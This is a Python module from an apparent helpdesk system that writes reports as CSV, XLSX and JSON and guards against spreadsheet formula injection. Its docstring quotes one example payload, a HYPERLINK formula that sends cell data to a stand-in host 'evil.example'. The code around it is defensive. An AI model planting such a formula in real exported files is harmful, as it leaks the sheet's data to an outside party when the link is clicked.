"""Report downloads: CSV (UTF-8 with a BOM, so Excel in Japan reads it), XLSX and JSON.

Cells carry text from outside (a ticket's subject is the sender's; names, OS and browser too),
and a spreadsheet runs text that looks like a formula: ``=HYPERLINK("https://evil.example/?"&A1)``
would send the sheet's figures away when clicked. CSV text that starts the way a formula does
gets a leading ``'`` (OWASP's advice on CSV injection), and XLSX text is written as text cells,
never formulas. Numbers are the report's own arithmetic and stay numbers, negative ones too.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

from helpdesk.reports.queries import DIMENSIONS
from helpdesk.reports.services import SLA_COLUMNS, Report, Table, text

BOM = "\ufeff"
CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# How a spreadsheet recognises a formula (or a DDE command) at the start of a CSV field.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cell(value: Any) -> Any:
    return "" if value is None else value


def csv_cell(value: Any) -> Any:
    """A value as a CSV field: text that a spreadsheet would run as a formula gets a leading
    ``'``, so it is read as text; numbers as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return _cell(value)


def table_csv(table: Table) -> bytes:
    """One table as CSV: BOM, a header row of labels, then the rows (CRLF line ends)."""
    out = io.StringIO()
    out.write(BOM)
    writer = csv.writer(out)
    writer.writerow([csv_cell(label) for label in table.labels])
    for row in table.rows:
        writer.writerow([csv_cell(c) for c in row.cells])
    return out.getvalue().encode("utf-8")


def xlsx_cell(sheet: Worksheet, value: Any) -> Cell:
    """A value as a worksheet cell: text always a text cell (openpyxl makes a formula of text
    starting with ``=`` and an error of ``#N/A``), without the control characters XLSX cannot
    hold (openpyxl refuses them, which would fail the whole download)."""
    if isinstance(value, str):
        cell = Cell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
        cell.data_type = "s"
        return cell
    return Cell(sheet, value=_cell(value))


def _append(sheet: Worksheet, values: list[Any]) -> list[Cell]:
    cells = [xlsx_cell(sheet, value) for value in values]
    sheet.append(cells)
    return cells


def sla_table(report: Report) -> Table:
    """The SLA tables of every dimension stacked into one, with a dimension column."""
    labels = text(report.request.lang)
    combined = Table(
        "sla",
        labels["sla_by_desk"],
        ["dimension", *SLA_COLUMNS],
        [labels["dimension"], *[labels[c] for c in SLA_COLUMNS]],
    )
    for dimension in DIMENSIONS:
        for row in report.tables[f"sla_by_{dimension}"].rows:
            combined.rows.append(type(row)([dimension, *row.cells], row.link))
    return combined


def report_xlsx(report: Report) -> bytes:
    """The whole report as a workbook: a cover sheet, then one sheet per table."""
    labels = text(report.request.lang)
    book = Workbook()
    cover = book.active
    assert cover is not None
    cover.title = "report"
    _append(cover, [labels["period"], report.title])
    _append(cover, [labels["desks"], ", ".join(report.desk_names)])
    _append(cover, [labels["generated"], report.generated_at.isoformat(timespec="seconds")])
    for table in report.tables.values():
        sheet = book.create_sheet(table.name[:31])
        _append(sheet, [table.title])
        sheet["A1"].font = Font(bold=True)
        _append(sheet, table.labels)
        for cell in sheet[2]:
            cell.font = Font(bold=True)
        for row in table.rows:
            cells = _append(sheet, row.cells)
            if row.link:  # on the cell itself: finding the sheet's last row scans every cell
                cells[0].hyperlink = row.link
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def report_data(report: Report) -> dict[str, Any]:
    """The whole report as plain data (tables as records keyed by column)."""
    request = report.request
    return {
        "period": {"from": request.date_from.isoformat(), "to": request.date_to.isoformat()},
        "desk_ids": list(request.desk_ids) if request.desk_ids is not None else None,
        "desks": report.desk_names,
        "generated_at": report.generated_at.isoformat(),
        "tables": {
            name: {
                "title": table.title,
                "columns": table.columns,
                "rows": table.records(),
                **({"links": [row.link for row in table.rows]} if table.name == "breaches" else {}),
            }
            for name, table in report.tables.items()
        },
        "charts": report.charts,
    }


def report_json(report: Report) -> str:
    """The whole report as JSON text (UTF-8, not ASCII-escaped)."""
    return json.dumps(report_data(report), ensure_ascii=False, indent=1)
